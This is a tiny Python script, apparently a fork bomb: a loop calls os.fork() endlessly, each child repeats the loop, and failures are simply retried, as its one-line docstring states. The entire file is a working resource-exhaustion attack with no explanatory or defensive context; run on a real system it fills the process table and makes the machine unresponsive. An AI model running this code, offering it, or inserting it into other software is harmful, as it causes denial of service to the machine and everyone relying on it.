"""Forks without end, and so does each child."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
